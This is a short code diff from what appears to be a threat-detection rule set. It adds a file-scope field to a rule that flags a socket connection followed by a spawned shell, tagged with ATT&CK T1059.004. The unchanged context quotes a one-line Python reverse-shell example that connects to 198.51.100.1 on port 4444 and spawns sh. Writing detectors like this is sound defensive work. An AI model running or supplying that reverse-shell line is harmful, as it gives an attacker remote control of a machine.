@@ -21,6 +21,7 @@ export const shellOpenedToOutside: PairCombination = {
     example: 's.connect(("198.51.100.1", 4444)); os.dup2(s.fileno(), 0); pty.spawn("sh")',
     technique: 'T1059.004',
   },
+  within: 'file',
   first: (sighting) => isSocket(sighting) || sighting.behaviour === 'connects-shell',
   second: ({ behaviour, text }) => behaviour === 'starts-process' && SHELL.test(text ?? ''),
   // What the shell is told comes from there, whoever called.
